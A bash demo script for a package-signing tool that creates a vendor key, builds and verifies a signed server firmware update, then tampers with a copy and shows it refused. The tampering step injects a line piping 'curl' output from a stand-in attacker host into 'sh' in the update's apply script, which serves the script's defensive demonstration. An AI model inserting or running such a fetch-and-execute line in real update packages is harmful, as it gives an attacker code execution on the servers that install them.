#!/usr/bin/env bash
# The local demo: a vendor key, a signed package, verification, and a tampered copy refused.
set -euo pipefail
bin=$(cd "$1" && pwd)
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d /tmp/exup-demo.XXXXXX)
trap 'rm -rf "$work"' EXIT
cd "$work"
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "A vendor creates a signing key"
"$bin/exup" pkg keygen --out vendor
mkdir trusted-keys && cp vendor/vendor.pub.pem trusted-keys/

step "…and builds a signed update package"
"$bin/exup" pkg build --info "$here/demo/ExUpInfo.xml" --payload "$here/demo/payload" \
  --key vendor/vendor.key.pem --out bmc-r120h-2.31.zip
"$bin/exup" pkg inspect --trusted-keys trusted-keys bmc-r120h-2.31.zip

step "A server checks it against its trusted vendor keys"
"$bin/exup" pkg verify --trusted-keys trusted-keys bmc-r120h-2.31.zip

step "Someone slips a command into the update program and re-zips it with the original signature…"
mkdir unpacked && (cd unpacked && unzip -q ../bmc-r120h-2.31.zip)
sed -i 's/^exit 0$/curl -s http:\/\/evil.example | sh; exit 0/' unpacked/payload/apply.sh
(cd unpacked && zip -qr ../tampered.zip ExUpInfo.xml payload ExUpHash.xml ExUpHash.sig)
step "…and the package is refused (exit status 1)"
if "$bin/exup" pkg verify --trusted-keys trusted-keys tampered.zip; then
  echo "demo failed: the tampered package was accepted" >&2; exit 1
fi
echo
echo "demo complete: the genuine package verified, the tampered one was refused."
